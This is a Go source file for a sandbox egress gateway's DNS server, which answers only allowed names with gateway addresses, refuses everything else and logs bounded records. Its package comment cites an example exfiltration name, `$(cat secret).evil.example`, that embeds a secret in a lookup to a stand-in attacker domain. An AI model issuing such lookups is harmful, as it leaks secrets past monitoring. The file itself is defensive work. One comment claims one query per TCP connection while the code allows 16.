// Package dns is the egress gateway's DNS server. It answers only names
// the policy allows, each with an address the gateway owns (so the
// destination of a later connection tells which name it is for), and
// never forwards a query anywhere: a name built from stolen data
// (`$(cat secret).evil.example`) goes no further than this server, which
// refuses it and records it.
//
// A name the policy does not allow gets NXDOMAIN at once (a final answer:
// no resolver retries or waits). Everything in a query is hostile input:
// malformed messages get FORMERR, several questions get FORMERR, anything
// but A (and AAAA, answered empty: the sandbox has no IPv6) for an allowed
// name is refused, and the record of queries is bounded.
package dns

import (
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"time"

	mdns "github.com/miekg/dns"
)

// Book maps allowed names to the gateway addresses that stand for them.
type Book interface {
	// Lookup returns the address for name (lower-case, no trailing dot),
	// and false when the policy does not allow the name.
	Lookup(name string) (netip.Addr, bool)
}

// Query is one decision of the server.
type Query struct {
	Time      time.Time `json:"time"`
	Transport string    `json:"transport"`
	Name      string    `json:"name"`
	Type      string    `json:"type"`
	Allowed   bool      `json:"allowed"`
	Answer    string    `json:"answer,omitempty"`
	Rcode     string    `json:"rcode"`
}

// maxLog bounds the queries kept; later ones are counted.
const maxLog = 10000

// Server answers DNS queries from the sandbox.
type Server struct {
	book Book
	ttl  uint32

	mu              sync.Mutex
	log             []Query
	allowed, denied int
	dropped         uint64
	servers         []*mdns.Server
}

// New returns a server that answers from book with the given TTL.
func New(book Book, ttl time.Duration) *Server {
	return &Server{book: book, ttl: uint32(ttl / time.Second)}
}

// Serve answers on an already-open UDP socket and TCP listener (opened in
// the gateway namespace by the caller) until Shutdown.
func (s *Server) Serve(udp net.PacketConn, tcp net.Listener) {
	h := mdns.HandlerFunc(s.handle)
	us := &mdns.Server{PacketConn: udp, Handler: h, ReadTimeout: 2 * time.Second, WriteTimeout: 2 * time.Second}
	ts := &mdns.Server{Listener: tcp, Handler: h, ReadTimeout: 2 * time.Second, WriteTimeout: 2 * time.Second,
		// One query per connection is all a resolver needs; a client that
		// keeps a connection open gets nothing more.
		MaxTCPQueries: 16}
	s.mu.Lock()
	s.servers = append(s.servers, us, ts)
	s.mu.Unlock()
	go us.ActivateAndServe()
	go ts.ActivateAndServe()
}

// Shutdown stops serving.
func (s *Server) Shutdown() {
	s.mu.Lock()
	servers := s.servers
	s.servers = nil
	s.mu.Unlock()
	for _, srv := range servers {
		srv.Shutdown()
	}
}

// Log returns the decisions so far and how many were not kept.
func (s *Server) Log() ([]Query, uint64) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Query(nil), s.log...), s.dropped
}

func (s *Server) record(q Query) {
	s.mu.Lock()
	defer s.mu.Unlock()
	// Allowed and refused queries are bounded apart: a flood of refused
	// names cannot push the allowed ones out of the record.
	n := &s.denied
	if q.Allowed {
		n = &s.allowed
	}
	if *n >= maxLog {
		s.dropped++
		return
	}
	*n++
	s.log = append(s.log, q)
}

func (s *Server) handle(w mdns.ResponseWriter, req *mdns.Msg) {
	resp := new(mdns.Msg)
	q := Query{Time: time.Now().UTC(), Transport: w.RemoteAddr().Network()}
	defer func() {
		q.Rcode = mdns.RcodeToString[resp.Rcode]
		s.record(q)
		w.WriteMsg(resp)
	}()
	if req.Opcode != mdns.OpcodeQuery || len(req.Question) != 1 || req.Response {
		resp.SetRcode(req, mdns.RcodeFormatError)
		q.Type = "invalid"
		return
	}
	resp.SetReply(req)
	resp.Authoritative = true
	resp.RecursionAvailable = false
	question := req.Question[0]
	q.Name = truncate(question.Name, 255)
	q.Type = mdns.TypeToString[question.Qtype]
	if q.Type == "" {
		q.Type = fmt.Sprintf("TYPE%d", question.Qtype)
	}
	name := strings.TrimSuffix(strings.ToLower(question.Name), ".")
	if question.Qclass != mdns.ClassINET {
		resp.SetRcode(req, mdns.RcodeRefused)
		return
	}
	addr, ok := s.book.Lookup(name)
	q.Allowed = ok
	switch {
	case !ok:
		// Not allowed: the name does not exist for the sandbox, and it
		// is never asked of anyone else.
		resp.SetRcode(req, mdns.RcodeNameError)
	case question.Qtype == mdns.TypeA:
		resp.Answer = append(resp.Answer, &mdns.A{
			Hdr: mdns.RR_Header{Name: question.Name, Rrtype: mdns.TypeA, Class: mdns.ClassINET, Ttl: s.ttl},
			A:   addr.AsSlice(),
		})
		q.Answer = addr.String()
	case question.Qtype == mdns.TypeAAAA:
		// Allowed name, but the sandbox has no IPv6: an empty answer
		// makes resolvers fall back to A at once.
	default:
		resp.SetRcode(req, mdns.RcodeRefused)
	}
}

func truncate(s string, n int) string {
	if len(s) > n {
		return s[:n]
	}
	return s
}
